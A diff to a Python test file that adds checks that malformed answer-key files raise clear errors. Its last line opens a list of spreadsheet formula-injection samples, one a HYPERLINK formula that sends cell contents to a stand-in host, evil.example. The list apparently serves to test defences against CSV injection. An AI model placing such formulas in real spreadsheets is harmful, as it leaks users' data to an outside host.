@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -254,6 +255,14 @@ def test_an_old_key_without_export_ids_says_to_export_again(exported, tmp_path):
     old.write_text(json.dumps({**key, "schema": "charops.human_key/v1"}))
     with pytest.raises(DataError, match="older charops.*export the tasks again"):
         import_human(old, [alice], tmp_path / "o")
+    # A key of the right schema but the wrong shape is one line too, not a KeyError.
+    broken = [({**key, "export_id": None}, "field 'export_id' is missing or not a JSON string"),
+              ({**key, "tasks": {"pairwise": {"PA0001": {"id": "p1"}}}}, "its 'scale' or 'tasks' are not"),
+              ({**key, "scale": [1]}, "its 'scale' or 'tasks' are not")]
+    for bad, words in broken:
+        old.write_text(json.dumps(bad))
+        with pytest.raises(DataError, match=re.escape(f"{old}: {words}")):
+            import_human(old, [alice], tmp_path / "o")
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
